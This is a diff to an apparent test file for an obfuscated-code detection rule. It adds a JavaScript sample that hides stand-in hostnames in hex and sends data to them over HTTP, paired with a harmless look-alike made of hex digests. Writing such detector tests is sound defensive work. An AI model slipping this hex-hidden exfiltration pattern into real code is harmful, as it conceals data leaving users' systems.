@@ -468,6 +468,15 @@ BUILTINS_TABLE = (
     "IlIlIl('ready')\n"
 )
 
+HEX_HOSTS = (
+    "const http = require('http');\n"
+    "function send(host, body) {\n"
+    "  http.request({ hostname: Buffer.from(host, 'hex').toString(), port: 8080 }).end(body);\n"
+    "}\n"
+    "send('636f6c6c6563746f722e6578616d706c652e6e6574', 'x');\n"
+    "send('3139322e302e322e3130', 'x');\n"
+)
+
 # Each technique in one module, and a look-alike that the same rule must leave alone:
 # usually the same code with the one step that makes it malicious taken out.
 TECHNIQUES = [
@@ -568,6 +577,14 @@ TECHNIQUES = [
         BUILTINS_TABLE,
         "import gettext\n\nsetattr(__builtins__, '_', gettext.gettext)\n",
         id="builtins defined under names from a table",
+    ),
+    pytest.param(
+        obfuscated_code_rule,
+        HEX_HOSTS,
+        # a digest and a key in hex are data: not letters, digits and dots from end to end
+        "const DIGEST = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';\n"
+        "const KEY = '00112233445566778899aabbccddeeff2e636f6d';\n",
+        id="a host spelled in hex",
     ),
 ]
 
